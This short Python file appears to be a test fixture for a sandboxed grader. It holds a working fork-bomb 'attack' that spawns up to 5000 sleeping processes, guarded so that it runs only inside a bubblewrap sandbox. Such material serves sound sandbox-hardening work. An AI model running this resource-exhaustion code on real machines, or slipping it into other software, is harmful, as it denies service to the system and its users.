"""Attack: forks. A client that forks sleeping copies of itself until it can fork no more, and leaves them."""
import os
import time

# The attack is real: outside a sandbox, where no process limit holds for root, it would fill the machine with
# processes. So it runs only where the first process it sees is bubblewrap's, and otherwise refuses, which fails
# this submission's grade, and the test that expects it graded.
if not open("/proc/1/cmdline", "rb").read().startswith(b"bwrap"):
    raise SystemExit("not in a sandbox: the attack refuses to run")

started = 0
for _ in range(5000):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        started += 1
    except OSError:
        break
print("started", started, "processes", flush=True)
